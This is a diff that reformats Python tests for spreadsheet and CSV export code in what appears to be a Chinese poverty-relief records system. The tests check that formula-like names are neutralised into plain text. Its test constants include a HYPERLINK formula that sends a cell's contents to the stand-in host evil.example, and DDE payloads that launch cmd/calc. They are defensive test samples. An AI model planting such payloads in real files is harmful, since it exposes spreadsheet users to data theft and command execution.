@@ -19,7 +19,9 @@ from tests.conftest import TOWN_A, login
 from tests.exchange.files import ROSTER_HEADER, VILLAGE_A, idn, roster_rows, xlsx
 
 LINK = '=HYPERLINK("http://evil.example/?"&B2,"点此")'
-DDE = "=1+2+cmd|calc!A0"  # no quotes: the comparison's CSV sniffer reads quotes in names its own way
+DDE = (
+    "=1+2+cmd|calc!A0"  # no quotes: the comparison's CSV sniffer reads quotes in names its own way
+)
 TEXTS = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1"]
 
 
@@ -56,8 +58,12 @@ def test_household_export_keeps_formula_like_names_as_visible_text(county_user, 
         assert text in texts, text  # exactly the text that was typed, visible
         assert texts[text].data_type == "s" and texts[text].quotePrefix  # and kept text when edited
     book = openpyxl.load_workbook(io.BytesIO(data))
-    assert book["贫困户"]["D2"].value == len(TEXTS) and book["贫困户"]["D2"].data_type == "n"  # 家庭人口 stays a number
-    cells = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_name("家庭成员").to_python()
+    assert (
+        book["贫困户"]["D2"].value == len(TEXTS) and book["贫困户"]["D2"].data_type == "n"
+    )  # 家庭人口 stays a number
+    cells = (
+        CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_name("家庭成员").to_python()
+    )
     assert sorted(row[2] for row in cells[1:]) == sorted(TEXTS)
 
 
@@ -66,7 +72,9 @@ def test_rejected_rows_export_keeps_the_file_text(county_user):
     bad_id = idn("36022219800101001")[:17] + ("1" if idn("36022219800101001")[17] != "1" else "2")
     data = xlsx(roster_rows("X001", VILLAGE_A, [(bad_id, LINK, "户主")]), header=ROSTER_HEADER)
     client = login(county_user)
-    client.post("/exchange/imports/", {"kind": "roster", "file": SimpleUploadedFile("花名册.xlsx", data)})
+    client.post(
+        "/exchange/imports/", {"kind": "roster", "file": SimpleUploadedFile("花名册.xlsx", data)}
+    )
     from fupin.exchange.models import ImportJob
 
     job = ImportJob.objects.get()
@@ -86,7 +94,12 @@ def test_comparison_csv_neutralises_names_and_keeps_numbers(tmp_path):
     with open(enr, "w", newline="", encoding="utf-8") as f:
         csv.writer(f).writerows([["id_number", "name", "area_code", "insurance", "enrolment_status", "poverty_tag", "premium_subsidy", "deceased"],
                                  [idn("36022219700101002"), "@外县人", "360281", "pension", "active", 0, 0, 0]])  # fmt: skip
-    compare_files(str(reg), str(enr), str(tmp_path / "out"), Settings.from_pack("fuliang-2018", as_of=dt.date(2020, 6, 30)))
+    compare_files(
+        str(reg),
+        str(enr),
+        str(tmp_path / "out"),
+        Settings.from_pack("fuliang-2018", as_of=dt.date(2020, 6, 30)),
+    )
     with open(tmp_path / "out" / "not_enrolled_pension.csv", encoding="utf-8") as f:
         rows = list(csv.DictReader(f))
     assert [r["name"] for r in rows] == ["'" + DDE]
@@ -100,9 +113,20 @@ def test_settle_csv_neutralises_claim_numbers_not_amounts(tmp_path):
                       "total_cost,in_policy_cost\n=1+2,P1,poor,inpatient,2,,C34.1,2018-03-01,50000,40000\n"
                       "-7,P2,general,inpatient,3,,,2018-05-01,12000.50,10000\n", encoding="utf-8")  # fmt: skip
     out = tmp_path / "split.csv"
-    call_command("settle", "--policy", "fuliang-2018", "--claims", str(claims), "--out", str(out), stdout=io.StringIO())
+    call_command(
+        "settle",
+        "--policy",
+        "fuliang-2018",
+        "--claims",
+        str(claims),
+        "--out",
+        str(out),
+        stdout=io.StringIO(),
+    )
     lines = out.read_text(encoding="utf-8").splitlines()
-    assert lines[1] == "'=1+2,40000.00,0.00,0.00,5000.00,5000.00"  # F-01, worked by hand in tests/policy/test_golden.py
+    assert (
+        lines[1] == "'=1+2,40000.00,0.00,0.00,5000.00,5000.00"
+    )  # F-01, worked by hand in tests/policy/test_golden.py
     assert lines[2].startswith("-7,5520.00,")  # a claim number that is just a number is left alone
 
 
@@ -114,11 +138,21 @@ def test_cell_writer_numbers_stay_numbers(tmp_path):
     path = tmp_path / "a.xlsx"
     book = xlsxwriter.Workbook(str(path), WORKBOOK_OPTIONS)
     sheet = book.add_worksheet()
-    CellWriter(book).write_row(sheet, 0, [-1250, -3.5, "-3.5", "=1+1", None, "http://evil.example/"])
+    CellWriter(book).write_row(
+        sheet, 0, [-1250, -3.5, "-3.5", "=1+1", None, "http://evil.example/"]
+    )
     book.close()
     texts = assert_no_formula(path.read_bytes())
     row = next(openpyxl.load_workbook(path).active.iter_rows(values_only=True))
     assert row == (-1250, -3.5, "-3.5", "=1+1", None, "http://evil.example/")
     assert not openpyxl.load_workbook(path).active["F1"].hyperlink  # no live link either
     assert texts["=1+1"].quotePrefix
-    assert csv_row([-1250, "-3.5", "=1+1", "+86 138", "@x", "\tx", "张三"]) == [-1250, "-3.5", "'=1+1", "'+86 138", "'@x", "'\tx", "张三"]
+    assert csv_row([-1250, "-3.5", "=1+1", "+86 138", "@x", "\tx", "张三"]) == [
+        -1250,
+        "-3.5",
+        "'=1+1",
+        "'+86 138",
+        "'@x",
+        "'\tx",
+        "张三",
+    ]
